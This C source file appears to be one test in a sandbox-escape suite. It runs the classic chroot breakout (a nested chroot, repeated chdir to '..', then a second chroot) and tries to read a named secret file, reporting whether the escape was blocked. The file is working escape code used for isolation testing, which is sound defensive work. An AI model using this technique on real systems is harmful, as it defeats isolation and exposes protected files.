/* SPDX-License-Identifier: Apache-2.0 */
/* leave_chroot.c - attacks the root directory: the old way out of a chroot.
 *
 * A second chroot below the current directory, then ".." until the real root.  Works for root
 * in any chroot; a pivoted root has nothing above it.
 */
#include <fcntl.h>
#include <sys/stat.h>

#include "escape.h"

int main(int argc, char **argv)
{
	const char *secret = need_arg(argc, argv, 1, "secret");
	char byte;
	int fd;

	tried("chroot, then ..");
	(void)mkdir("escape-root", 0755);
	if (chroot("escape-root") < 0)
		blocked("chroot: %m");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			blocked("chdir: %m");
	if (chroot(".") < 0)
		blocked("second chroot: %m");
	fd = open(secret, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || read(fd, &byte, 1) != 1)
		blocked("read %s: %m", secret);
	escaped("read %s", secret);
}
